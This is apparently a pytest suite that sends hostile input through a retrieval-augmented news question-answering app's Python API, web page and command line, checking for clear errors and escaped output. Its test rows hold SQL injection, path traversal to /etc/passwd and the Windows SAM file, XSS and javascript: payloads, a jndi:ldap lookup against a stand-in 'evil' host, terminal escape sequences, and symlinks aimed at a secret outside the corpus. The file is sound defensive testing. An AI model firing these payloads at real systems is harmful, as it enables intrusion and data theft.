"""Hostile input, table-driven: every row goes through the Python API, the page's ``ask``
API (over HTTP, as a client calls it) and the ``rag`` command line, and must end in a
clear message or a normal answer (or abstention) — never a traceback or an "unexpected"
error.

Real corpus, real models, one shared pipeline; the command-line rows run in one
subprocess per table (slow-marked).
"""

from __future__ import annotations

import json
import logging
import os
import re
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from helpers import CORPUS_FILES, REPO_ROOT, clean_env, free_port

from rag import Pipeline
from rag.answer.citations import check
from rag.cli import format_answer
from rag.errors import InputError, RagError
from rag.ingest.run import ingest
from rag.web.chatview import answer_markdown

NEW_START = "When was New START extended?"
ANSWER = None  # expected: a normal answer or an abstention

# (id, question, history, expected error substring or ANSWER)
ROWS: list[tuple[str, Any, Any, str | None]] = [
    ("empty", "", None, "empty"),
    ("a number", 42, None, "must be text"),
    ("a list", ["When was New START extended?"], None, "must be text"),
    ("blanks", " \t\n ", None, "empty"),
    ("over-long", "New START " * 300, None, "the limit is 2,000"),
    ("1 MB", "x" * 1_000_000, None, "the limit is 2,000"),
    ("at the limit", ("a" * 1999) + "?", None, ANSWER),
    ("control characters", "\x00When\x07 was New START\x1b extended?\x7f", None, ANSWER),
    ("binary garbage", bytes(range(256)).decode("utf-8", errors="replace"), None, "not text"),
    ("NULs and replacement chars", "\x00\x00\ufffd\ufffd\ufffd\x01ab", None, "not text"),
    ("RTL override", "\u202eWhen was New START extended?\u202c", None, ANSWER),
    ("zero-width", "When\u200b was\u200c New\u200d START\ufeff extended?", None, ANSWER),
    ("emoji only", "🙂🔥🚀", None, "no words"),
    ("emoji and words", "🚀 When was New START extended? 🚀", None, ANSWER),
    ("punctuation only", "?!?…;", None, "no words"),
    ("SQL", "'; DROP TABLE articles; -- OR 1=1", None, ANSWER),
    ("path", "../../../../etc/passwd", None, ANSWER),
    ("windows path", "C:\\Windows\\System32\\config\\SAM", None, ANSWER),
    ("HTML injection", "<script>alert(1)</script><img src=x onerror=alert(1)> When was New START extended?",
     None, ANSWER),
    ("markdown injection", "**[click](javascript:alert(1))** ![x](http://evil/x.png) When was New START extended?",
     None, ANSWER),
    ("template injection", "{{7*7}} ${jndi:ldap://evil/a} %s%s%n", None, ANSWER),
    ("citation forgery", "[1] [2] When was New START extended? [99]", None, ANSWER),
    ("Arabic", "متى تم تمديد معاهدة ستارت الجديدة؟", None, ANSWER),
    ("newlines", "When\nwas\r\nNew START\textended?", None, ANSWER),
    ("one long word", "a" * 1500, None, ANSWER),
    ("history: None", "And when does it expire?", None, ANSWER),
    ("history: empty", "And when does it expire?", [], ANSWER),
    ("history: blanks", "And when does it expire?", ["", "  "], ANSWER),
    ("history: numbers", "And when does it expire?", [1, 2, 3], "must be a list"),
    ("history: dicts", "And when does it expire?", [{"q": NEW_START}], "must be a list"),
    ("history: a dict", "And when does it expire?", {"q": NEW_START}, "must be a list"),
    ("history: a string", "And when does it expire?", NEW_START, "must be a list"),
    ("history: nulls", "And when does it expire?", [None], "must be a list"),
    ("history: 5,000 items", "And when does it expire?", [NEW_START] * 5000, "the limit is 20"),
    ("history: 1 MB item", "And when does it expire?", ["y" * 1_000_000], "the limit is 2,000"),
    ("history: hostile", "And when does it expire?", ["<script>x</script> New START", "'; DROP TABLE"], ANSWER),
    ("reversed words", "dednetxe TRATS weN saw nehW", None, ANSWER),
    ("German", "Wann wurde New START verlängert?", None, ANSWER),
    ("Chinese", "新START条约何时延长？", None, ANSWER),
]

# (id, question, the language it is given, what the answer says): abstentions, or the
# languages newsrag does not answer in said so, never a confident quote
EDGE: list[tuple[str, str, str, str]] = [
    ("reversed words", "dednetxe TRATS weN saw nehW", "en", "The articles do not say"),
    ("German", "Wann wurde New START verlängert?", "de", "in English or French only"),
    ("Chinese", "新START条约何时延长？", "zh", "in English or French only"),
    ("Spanish", "¿Cuándo se prorrogó el nuevo tratado START?", "es", "in English or French only"),
]

# Rows the page's API cannot carry as such (gradio sends JSON: a lone question string is fine).
IDS = [r[0] for r in ROWS]


def check_answer(data: dict[str, Any]) -> None:
    assert isinstance(data["answer"], str) and data["answer"]
    assert data["abstained"] or data["citations"]
    assert "unexpected" not in json.dumps(data).lower()


# --------------------------------------------------------------------------- Python API


@pytest.mark.parametrize("row", ROWS, ids=IDS)
def test_python_api(pipeline: Pipeline, row, caplog):
    _, question, history, expected = row
    with caplog.at_level(logging.WARNING, logger="rag"):
        if expected is ANSWER:
            check_answer(pipeline.ask(question, history).to_dict())
        else:
            with pytest.raises(InputError) as err:
                pipeline.ask(question, history)
            assert expected in str(err.value)
            assert len(str(err.value)) < 400  # the message does not repeat a huge input
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]


@pytest.mark.parametrize("row", EDGE, ids=[r[0] for r in EDGE])
def test_questions_at_the_edge_abstain_or_are_told_the_languages(pipeline: Pipeline, row):
    _, question, language, says = row
    answer = pipeline.ask(question)
    assert answer.abstained and not answer.citations and answer.language == language
    assert says in answer.answer


def test_the_team_questions_keep_their_language(questions):
    from rag.lang import detect_language, question_language

    changed = [(q["q"], detect_language(q["q"]), question_language(q["q"])) for q in questions
               if question_language(q["q"]) != detect_language(q["q"])]
    assert changed == []


# --------------------------------------------------------------------------- page API


@pytest.fixture(scope="module")
def page_client(pipeline: Pipeline) -> Iterator[Any]:
    """The page served on localhost over the shared pipeline, and a gradio client of it."""
    from gradio_client import Client

    from rag.web import launch

    port = free_port()
    app = launch("127.0.0.1", port, pipeline, prevent_thread_lock=True, quiet=True)
    yield Client(f"http://127.0.0.1:{port}/", verbose=False)
    app.close()


@pytest.mark.slow  # a real server: the page served on localhost, asked over HTTP (the rows' Python API run above)
@pytest.mark.parametrize("row", ROWS, ids=IDS)
def test_page_api(page_client, row, caplog):
    from gradio_client.exceptions import AppError

    _, question, history, expected = row
    with caplog.at_level(logging.WARNING):
        if expected is ANSWER:
            check_answer(page_client.predict(question, history, api_name="/ask"))
        else:
            with pytest.raises(AppError) as err:
                page_client.predict(question, history, api_name="/ask")
            assert expected in str(err.value)
            assert "Traceback" not in str(err.value) and "went wrong" not in str(err.value)
    logged = "\n".join(r.getMessage() + (r.exc_text or "") for r in caplog.records if r.levelno >= logging.ERROR)
    assert "Traceback" not in logged and "unexpected" not in logged, logged


# --------------------------------------------------------------------------- command line


def run_cli(*args: str, index_dir: Path, corpus_dir: Path, timeout: int = 600) -> subprocess.CompletedProcess:
    env = clean_env(RAG_INDEX_DIR=str(index_dir), RAG_CORPUS_DIR=str(corpus_dir), PYTHONIOENCODING="utf-8",
                    OMP_NUM_THREADS=os.environ.get("OMP_NUM_THREADS", "1"))
    return subprocess.run([sys.executable, "-m", "rag.cli", *args], capture_output=True, text=True,
                          encoding="utf-8", errors="replace", timeout=timeout, env=env, cwd=REPO_ROOT)


RAW_LINES: list[tuple[str, bytes, str | None]] = [
    # (id, the line's bytes, expected error substring or ANSWER)
    ("invalid UTF-8 in a question", b"When was New START \xff\xfeextended?", ANSWER),
    ("Windows-1252 line", "Quand a été prolongé New START ?".encode("cp1252"), ANSWER),
    ("binary line", bytes(range(1, 10)) + b"\xff\xfe\xfd\x00\x00\x81\x8d" * 8, "not text"),
    ("broken JSON", b'{"q": "When', "not valid JSON"),
]


@pytest.mark.slow
def test_command_line(settings, pipeline, tmp_path: Path):
    """All rows (but blank questions: a blank line is skipped) as one questions file."""
    rows = [r for r in ROWS if isinstance(r[1], str) and r[1].strip()]
    lines = [json.dumps({"q": q, **({"history": h} if h is not None else {})}).encode() for _, q, h, _ in rows]
    lines += [raw for _, raw, _ in RAW_LINES]
    expected = [r[3] for r in rows] + [r[2] for r in RAW_LINES]
    ids = [r[0] for r in rows] + [r[0] for r in RAW_LINES]
    path = tmp_path / "questions.jsonl"
    path.write_bytes(b"\n".join(lines) + b"\n")
    out = run_cli("ask", "--questions", str(path), "--json", index_dir=settings.index_dir,
                  corpus_dir=settings.corpus_dir)
    assert out.returncode == 1, out.stderr  # some lines fail, on purpose
    assert "Traceback" not in out.stderr and "unexpected" not in out.stderr, out.stderr
    results = [json.loads(line) for line in out.stdout.splitlines()]
    assert len(results) == len(lines)
    for number, (name, want, got) in enumerate(zip(ids, expected, results), 1):
        if want is ANSWER:
            assert "error" not in got, (name, got)
            check_answer(got)
        else:
            assert want in got["error"], (name, got)
            assert got["line"] == number and len(got["question"]) <= 240, (name, got)
    bad_utf8 = len(rows) + 1  # the first raw line
    assert f"line {bad_utf8}: not valid UTF-8" in out.stderr
    assert f"line {bad_utf8 + 1}: not valid UTF-8" in out.stderr  # cp1252 é


@pytest.mark.slow
@pytest.mark.parametrize("history,message", [(["x"] * 21, "the limit is 20"), (["y" * 3000], "the limit is 2,000")])
def test_command_line_history_flag(settings, pipeline, history, message):
    out = run_cli("ask", "And when does it expire?", "--history", *history, index_dir=settings.index_dir,
                  corpus_dir=settings.corpus_dir)
    assert out.returncode == 2 and message in out.stderr and "Traceback" not in out.stderr


# --------------------------------------------------------------------------- corpus files

SECRET = "Le code secret du coffre est 4711 ; personne ne doit le lire ni le citer dans une réponse.\n" * 3
HOSTILE_TITLE_HTML = """<html><head><meta property="og:title" content="&lt;img src=x onerror=alert(1)&gt; Titre">
<meta property="og:site_name" content="<script>alert(1)</script>"></head><body><article>
<p>Le festival de sculpture sur glace de Harbin s'est ouvert le 5 janvier 2023 dans le nord-est de la Chine, avec des palais de glace.</p>
</article></body></html>"""

#: The source of ``caf\xe9.txt`` (a Latin-1 byte, not UTF-8): its name shown escaped.
LATIN1_NAME = "caf\\xe9.txt"

# source -> expected: an error substring of its skip reason, ANSWER (indexed) or SAME (the
# same article as another file: indexed once, as the other)
SAME = "same article"
FILES: dict[str, str | None] = {
    "secret-link.txt": "outside the corpus folder",
    "dossier-lien": "outside the corpus folder",
    "inside-link.txt": SAME,  # a link inside the corpus is followed: it repeats its target
    "enorme.txt": "RAG_MAX_FILE_MB",
    "espaces.txt": "no article text",
    "nuls.txt": "binary",
    "tube.txt": "not a regular file",
    "titre-hostile.html": ANSWER,
    "<img src=x onerror=alert(1)>.txt": ANSWER,
    "cp1252.txt": ANSWER,
    "vide.md": "no article text",
    LATIN1_NAME: ANSWER,  # indexed, its undecodable byte shown escaped
    "deux\nlignes.txt": ANSWER,  # a newline in a name
    "rouge\x1b[31m\x07.txt": ANSWER,  # terminal control characters in a name
    "titre-terminal.txt": ANSWER,  # a title that would clear the screen and rename the terminal
    "notes.txt": ANSWER,  # a footnote call, "2022 [7].", is the article's text, not a marker
}
FOOTNOTE_ARTICLE = ("Pêche en Baltique\n\nLe traité sur la pêche du hareng dans la mer Baltique a été signé "
                    "à Riga le 3 mars 2022 [7]. Il entrera en vigueur en mai, selon le ministère letton.\n")
#: The title of titre-terminal.txt, and a question its article answers.
TERMINAL_TITLE = "\x1b]0;pwned\x07\x1b[2J Sommet des glaciers à Oslo"
GLACIERS = "Où s'est tenu le sommet des glaciers ?"


@pytest.fixture
def hostile_corpus(tmp_path: Path, corpus_copy: Path) -> Path:
    corpus = corpus_copy
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.txt").write_text(SECRET, encoding="utf-8")
    (corpus / "secret-link.txt").symlink_to(outside / "secret.txt")
    (corpus / "dossier-lien").symlink_to(outside, target_is_directory=True)
    (corpus / "inside-link.txt").symlink_to(corpus / CORPUS_FILES[0])
    with open(corpus / "enorme.txt", "wb") as f:
        f.truncate(50 * 1024 * 1024)  # sparse: costs no disk, would cost 50 MB to read
    (corpus / "espaces.txt").write_bytes(b" " * 1_000_000)
    (corpus / "nuls.txt").write_bytes(b"\x00" * 100_000)
    os.mkfifo(corpus / "tube.txt")
    (corpus / "titre-hostile.html").write_text(HOSTILE_TITLE_HTML, encoding="utf-8")
    (corpus / "<img src=x onerror=alert(1)>.txt").write_text(
        "La conférence de Tromsø sur l'Arctique s'est tenue le 2 février 2023 en Norvège.\n", encoding="utf-8")
    (corpus / "cp1252.txt").write_bytes("Le sommet de Genève s'est tenu en été, a déclaré le ministre.\n"
                                        .encode("cp1252"))
    (corpus / "vide.md").write_text("# \n\n**  **\n", encoding="utf-8")
    (corpus / os.fsdecode(b"caf\xe9.txt")).write_text(
        "Le café de la place du village a rouvert le 4 mars 2022 après des travaux, a indiqué le maire.\n",
        encoding="utf-8")
    (corpus / "notes.txt").write_text(FOOTNOTE_ARTICLE, encoding="utf-8")
    (corpus / "titre-terminal.txt").write_text(
        f"{TERMINAL_TITLE}\n\nLe sommet des glaciers s'est tenu à Oslo le 8 mai 2023, a annoncé le ministère.\n",
        encoding="utf-8")
    (corpus / "rouge\x1b[31m\x07.txt").write_text(
        "Le pont rouge de la ville a été repeint le 12 juin 2021 par les services techniques.\n", encoding="utf-8")
    (corpus / "deux\nlignes.txt").write_text(
        "La bibliothèque municipale a fermé le 2 avril 2021 pour des raisons de sécurité, selon la mairie.\n",
        encoding="utf-8")
    return corpus


def test_corpus_files_through_ingest(hostile_corpus: Path, make_settings, embedder):
    report = ingest(make_settings(corpus_dir=hostile_corpus), embedder)
    for source, expected in FILES.items():
        if expected is ANSWER:
            assert source in report.added, (source, report.skipped.get(source))
        elif expected is SAME:
            assert report.duplicates.get(source) == CORPUS_FILES[0], report.duplicates
        else:
            assert source in report.skipped and expected in report.skipped[source].reason, (source, report.skipped)
            assert source in report.skipped[source].reason  # names the file
    assert set(report.added) == set(FILES) - set(report.skipped) - set(report.duplicates) | set(CORPUS_FILES)


def assert_terminal_safe(text: str, sources: int) -> None:
    """What ``rag ask`` prints holds no control character but line ends, and one line per
    source (a name holding a newline does not split its line)."""
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", text), repr(text)
    lines = text.split("\nSources:\n")[1].splitlines()
    assert len([ln for ln in lines if ln.startswith("[")]) == sources
    assert all(ln.startswith(("[", "    > ")) for ln in lines), lines


def test_corpus_files_through_the_pipeline(hostile_corpus: Path, make_settings, embedder):
    p = Pipeline.from_settings(make_settings(corpus_dir=hostile_corpus), embedder=embedder)
    try:
        titles = {d.source: d.title for d, _ in p.library.articles()}
        assert titles["titre-hostile.html"] == "<img src=x onerror=alert(1)> Titre"  # stored as text
        assert "4711" not in json.dumps(p.ask("Quel est le code secret du coffre ?").to_dict())
        answer = p.ask("Quand s'est ouvert le festival de sculpture sur glace de Harbin ?")
        assert not answer.abstained and answer.citations[0].doc_id == "titre-hostile.html"
        with pytest.raises(RagError, match="no such article"):
            p.library.remove_article("dossier-lien/secret.txt")
        for question, source in ((GLACIERS, "titre-terminal.txt"),
                                 ("Quand la bibliothèque municipale a-t-elle fermé ?", "deux\nlignes.txt")):
            answer = p.ask(question)
            assert answer.citations and answer.citations[0].source == source, answer.answer
            assert_terminal_safe(format_answer(answer), sources=len(answer.citations))
        footnote = p.ask("Quand le traité sur la pêche du hareng dans la mer Baltique a-t-il été signé ?")
        assert footnote.citations and footnote.citations[0].source == "notes.txt", footnote.answer
        assert "2022 [7]." in footnote.citations[0].quote and "2022 \\[7\\]." in footnote.answer
        assert check(footnote.answer, footnote.citations) == []
        shown = answer_markdown(footnote, turn=0)
        assert "2022 \\[7\\]." in shown and "#src-0-7" not in shown  # "[7]" on the page, as text
        assert "2022 [7]." in format_answer(footnote).splitlines()[0]
        cafe = p.ask("Quand le café de la place du village a-t-il rouvert ?")
        assert not cafe.abstained and cafe.citations[0].source == LATIN1_NAME
        p.library.remove_article(LATIN1_NAME)  # found by its shown name, moved aside
        assert LATIN1_NAME not in {d.source for d, _ in p.library.articles()}
        assert os.listdir(os.fsencode(hostile_corpus / ".removed")) == [b"caf\xe9.txt"]
    finally:
        p.close()


@pytest.mark.slow
def test_corpus_files_through_the_command_line(hostile_corpus: Path, make_settings):
    index_dir = make_settings().index_dir
    out = run_cli("ingest", index_dir=index_dir, corpus_dir=hostile_corpus)
    assert out.returncode == 0, out.stderr
    assert "Traceback" not in out.stderr and "unexpected" not in out.stderr
    warnings = [line for line in out.stderr.splitlines() if line.startswith("warning:")]
    for source, expected in FILES.items():
        named = [w for w in warnings if source in w]
        if expected is ANSWER:
            assert not named or "Windows-1252" in named[0], (source, named)
        else:
            assert len(named) == 1 and expected in named[0], (source, warnings)
    assert not re.search(r"[\x07\x1b]", out.stdout + out.stderr)  # no name sends control characters
    red = run_cli("ask", "Quand le pont rouge de la ville a-t-il été repeint ?", index_dir=index_dir,
                  corpus_dir=hostile_corpus)
    assert red.returncode == 0 and "(rouge\\x1b[31m\\x07.txt)" in red.stdout, red.stdout  # named, escaped
    assert_terminal_safe(red.stdout, sources=red.stdout.count("\n["))
    asked = run_cli("ask", GLACIERS, index_dir=index_dir, corpus_dir=hostile_corpus)
    assert asked.returncode == 0, asked.stderr
    assert_terminal_safe(asked.stdout, sources=asked.stdout.count("\n["))
    assert "\\x1b]0;pwned\\x07" in asked.stdout  # shown, escaped


# --------------------------------------------------------------------------- uploads


def test_uploaded_file_gets_the_mode_of_the_corpus_files(corpus_copy: Path, tmp_path: Path):
    from rag.ingest.corpus import add_files

    upload = tmp_path / "nouveau.txt"
    upload.write_text("Le port de Brest a accueilli 30 navires le 3 juin 2022, a dit la capitainerie.\n",
                      encoding="utf-8")
    upload.chmod(0o600)  # how Gradio's temporary copies are made
    old = os.umask(0o022)  # the usual umask, under which the corpus is 0644
    try:
        [source] = add_files(corpus_copy, [upload], max_bytes=1 << 20)
    finally:
        os.umask(old)
    assert (corpus_copy / source).stat().st_mode & 0o777 == 0o644


def test_upload_over_the_work_limit_is_refused_saying_why(corpus_copy: Path, make_settings, embedder, tmp_path):
    """A 0.5 MB line with no full stop (1,700 passages and sentences to embed) is refused
    before it is copied, saying why; nothing is ingested."""
    from benchmarks.upload_latency import one_line_article
    from rag.web.chatview import upload_articles

    upload = tmp_path / "une-ligne.txt"
    upload.write_text(one_line_article(500), encoding="utf-8")
    p = Pipeline.from_settings(make_settings(corpus_dir=corpus_copy), embedder=embedder)
    try:
        result = upload_articles(p, [upload], [upload.name])
    finally:
        p.close()
    assert result.report is None and not result.added
    why = result.refused["une-ligne.txt"]
    assert "une-ligne.txt:" in why and "RAG_MAX_UPLOAD_TEXTS" in why and "rag ingest" in why, why
    assert sorted(os.listdir(corpus_copy)) == sorted(CORPUS_FILES)


def test_removed_folder_keeps_the_latest_files(corpus_copy: Path):
    from rag.ingest.corpus import REMOVED_DIR, remove_file

    for name in CORPUS_FILES:
        remove_file(corpus_copy, name, keep=3)
        time.sleep(0.01)  # distinct times of removal
    assert sorted(os.listdir(corpus_copy / REMOVED_DIR)) == sorted(CORPUS_FILES[-3:])


@pytest.mark.slow
def test_page_api_offers_its_own_functions_and_a_removal_needs_its_confirmation(
        corpus_copy: Path, make_settings, embedder, capfd):
    """The page's API lists /ask and the editors' /add_article, /add_url and /remove_article; its
    other events (the browser's) cannot be called by name, and run by function index as
    the browser does, a removal without its confirmation removes nothing, and None for
    every input of every event gives a message, never a traceback in the server's log."""
    from gradio_client import Client

    from benchmarks.upload_latency import page_event
    from rag.web import launch
    from rag.web.chatview import REMOVE_UNCONFIRMED

    p = Pipeline.from_settings(make_settings(corpus_dir=corpus_copy), embedder=embedder)
    port = free_port()
    app = launch("127.0.0.1", port, p, prevent_thread_lock=True, quiet=True)
    url = f"http://127.0.0.1:{port}"
    try:
        client = Client(url + "/", verbose=False)
        api = client.view_api(return_format="dict", print_info=False)
        assert sorted(api["named_endpoints"]) == ["/add_article", "/add_url", "/ask", "/remove_article"]
        assert not api["unnamed_endpoints"]
        with pytest.raises(ValueError):
            client.predict(CORPUS_FILES[0], [], api_name="/do_remove")
        # the confirmation is the session's, kept on the server: a client sending it is not heard
        done = page_event(url, "do_remove", [CORPUS_FILES[0], CORPUS_FILES[0], []])
        assert done["success"] and done["output"]["data"][0] == REMOVE_UNCONFIRMED
        assert (corpus_copy / CORPUS_FILES[0]).is_file()
        for dep in app.config["dependencies"]:
            if dep.get("api_name") and dep.get("backend_fn") is not False:
                done = page_event(url, dep["api_name"], [None] * len(dep["inputs"]))
                # the API's own functions say why as an error; the page's events as a message
                assert done["success"] or dep["api_name"] in ("ask", "add_article", "add_url", "remove_article"), done
        assert sorted(os.listdir(corpus_copy)) == sorted(CORPUS_FILES)
    finally:
        app.close()
        p.close()
    logged = capfd.readouterr()
    assert "Traceback" not in logged.err + logged.out
